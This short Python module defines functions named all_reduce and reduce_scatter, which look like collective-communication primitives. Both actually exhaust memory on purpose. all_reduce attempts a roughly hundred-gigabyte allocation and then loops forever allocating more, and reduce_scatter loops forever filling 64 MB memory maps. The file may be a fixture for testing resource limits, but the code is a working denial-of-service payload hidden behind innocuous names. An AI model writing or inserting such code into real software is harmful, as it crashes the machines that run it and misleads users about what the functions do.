"""At once, and if that is refused in small steps."""

import mmap

import numpy as np

KEPT = []


def all_reduce(comm, x):
    try:
        KEPT.append(np.ones(100 << 27))
    except MemoryError:
        pass
    while True:
        KEPT.append(np.ones(1 << 20))


def reduce_scatter(comm, x):
    while True:
        block = mmap.mmap(-1, 64 << 20)
        block.write(bytes(64 << 20))
        KEPT.append(block)
